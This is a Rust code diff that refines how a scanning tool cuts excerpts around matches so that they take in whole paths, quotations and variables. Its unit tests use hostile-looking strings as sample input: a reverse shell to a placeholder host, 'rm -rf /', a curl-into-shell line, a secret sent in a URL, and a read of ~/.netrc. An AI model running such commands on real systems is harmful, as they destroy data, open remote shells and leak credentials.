@@ -16,8 +16,8 @@ const MATCH_CHARS: usize = EXCERPT_CHARS - 2 * CUT_CHARS;
 /// Maximum length of the rest of a word that is marked with a match, in bytes.
 const REST_OF_WORD: usize = 24;
 
-/// Counterpart of [`REST_OF_WORD`] for a quotation that begins in a match.
-const REST_OF_QUOTATION: usize = 60;
+/// Counterpart of [`REST_OF_WORD`] for a path or a quotation that begins in a match.
+const REST_OF_PART: usize = 60;
 
 /// Minimum length of base64 text that is marked with its padding, in bytes.
 const BASE64: usize = 16;
@@ -52,11 +52,7 @@ impl Excerpt {
     /// Creates an excerpt of a line or a paragraph around a match. It is cut to [`EXCERPT_CHARS`] between sentences,
     /// clauses or words, so that the beginning and the end of the match stay visible.
     pub fn around(part: &str, matched: Range<usize>) -> Self {
-        let before = part.get(..matched.start).unwrap_or("");
-        let rest = part.get(before.len()..).unwrap_or("");
-        let hit = whole_words(rest, rest.get(..matched.len()).unwrap_or(rest).trim_end());
-        let hit = with_close(rest, without_close(hit));
-        let after = rest.get(hit.len()..).unwrap_or("").trim_end();
+        let (before, hit, after) = marked(part, matched);
         // Bytes of a binary outside its text runs are zeros. Shown, they would push the match out of view.
         let near = before.rsplit('\0').next().unwrap_or("").trim_start();
         let hit = without_middle(hit);
@@ -83,12 +79,26 @@ impl Excerpt {
     }
 }
 
-/// Returns a match at the beginning of a text, extended to the end of its last word or base64 text.
+/// Returns a text in three parts: before a match, the match as it is marked, and after it. The match is extended to
+/// whole words, paths and quotations.
+fn marked(part: &str, matched: Range<usize>) -> (&str, &str, &str) {
+    let before = part.get(..matched.start).unwrap_or("");
+    let is_path = part.get(before.len()..).is_some_and(|rest| rest.starts_with('/'));
+    let before = before.strip_suffix('~').filter(|_| is_path).unwrap_or(before);
+    let rest = part.get(before.len()..).unwrap_or("");
+    let hit = rest.get(..matched.end.saturating_sub(before.len())).unwrap_or(rest).trim_end();
+    let hit = with_close(rest, without_close(whole_words(rest, hit)));
+    (before, hit, rest.get(hit.len()..).unwrap_or("").trim_end())
+}
+
+/// Returns a match at the beginning of a text, extended to the end of its last word, path or base64 text.
 pub(crate) fn whole_words<'t>(text: &'t str, hit: &'t str) -> &'t str {
-    let is_part = |byte: &u8| byte.is_ascii_alphanumeric() || *byte == b'_';
-    let is_cut = hit.as_bytes().last().is_some_and(is_part);
-    let rest = text.bytes().skip(hit.len()).take_while(is_part).take(REST_OF_WORD + 1).count();
-    if !is_cut || rest > REST_OF_WORD {
+    let is_word = |byte: &u8| byte.is_ascii_alphanumeric() || *byte == b'_';
+    let is_path = hit.strip_suffix('/').is_some_and(|parent| parent.bytes().next_back().as_ref().is_some_and(is_word));
+    let is_part = |byte: &u8| is_word(byte) || is_path && matches!(byte, b'.' | b'-' | b'/' | b':');
+    let longest = if is_path { REST_OF_PART } else { REST_OF_WORD };
+    let rest = text.bytes().skip(hit.len()).take_while(is_part).take(longest + 1).count();
+    if !hit.as_bytes().last().is_some_and(is_part) || rest > longest {
         return hit;
     }
     let end = hit.len() + rest;
@@ -100,9 +110,9 @@ pub(crate) fn whole_words<'t>(text: &'t str, hit: &'t str) -> &'t str {
     if is_padded { text.get(..end + padding).unwrap_or(whole) } else { whole }
 }
 
-/// Returns a match without quotation marks and brackets at its end that were opened before it.
+/// Returns a match without a comma at its end, and without quotation marks and brackets that were opened before it.
 pub(crate) fn without_close(hit: &str) -> &str {
-    let mut kept = hit;
+    let mut kept = hit.trim_end_matches(',');
     while let Some(last) = kept.chars().next_back() {
         let is_open = match last {
             '"' | '\'' | '`' => kept.matches(last).count() % 2 == 0,
@@ -119,12 +129,15 @@ pub(crate) fn without_close(hit: &str) -> &str {
     if kept.is_empty() { hit } else { kept }
 }
 
-/// Returns a match at the beginning of a text, extended by the end of a quotation that begins in it.
+/// Returns a match at the beginning of a text, extended by the end of a quotation or variable that begins in it.
 fn with_close<'t>(text: &'t str, hit: &'t str) -> &'t str {
-    let rest = text.get(hit.len()..).unwrap_or("");
-    let line = rest.lines().next().filter(|_| !rest.starts_with('\n')).unwrap_or("");
-    let is_open = hit.matches('"').count() % 2 == 1;
-    let end = line.find('"').filter(|end| is_open && *end <= REST_OF_QUOTATION);
+    let line = text.get(hit.len()..).and_then(|rest| rest.split('\n').next()).unwrap_or("");
+    let close = match hit.rfind("${").and_then(|at| hit.get(at..)) {
+        Some(variable) if !variable.contains('}') => '}',
+        _ if hit.matches('"').count() % 2 == 1 => '"',
+        _ => return hit,
+    };
+    let end = line.find(close).filter(|end| *end <= REST_OF_PART);
     end.and_then(|end| text.get(..hit.len() + end + 1)).unwrap_or(hit)
 }
 
@@ -300,6 +313,10 @@ mod tests {
         assert_eq!(of("Delete (rm -rf /)', 1", 8..18), "rm -rf /");
         assert_eq!(of("sh -c \"$(curl x)\" # y", 0..17), "sh -c \"$(curl x)\"");
         assert_eq!(of("\"postinstall\": \"node child.js\",", 0..20), "\"postinstall\": \"node child.js\"");
+        assert_eq!(of("u: https://a.test/?k=${KEY}\"", 3..24), "https://a.test/?k=${KEY}");
+        assert_eq!(of("bash >& /dev/tcp/a.invalid/4444 0>&1", 0..17), "bash >& /dev/tcp/a.invalid/4444");
+        assert_eq!(of("open(~/.netrc)", 6..13), "~/.netrc");
+        assert_eq!(of("[\"pip install x]\",", 2..18), "pip install x");
         assert_eq!(of("run SQBuAHYAbwBrAGUAAA== now", 0..22), "run SQBuAHYAbwBrAGUAAA==");
         assert_eq!(of("set LONG_NAME=1", 0..13), "set LONG_NAME");
     }
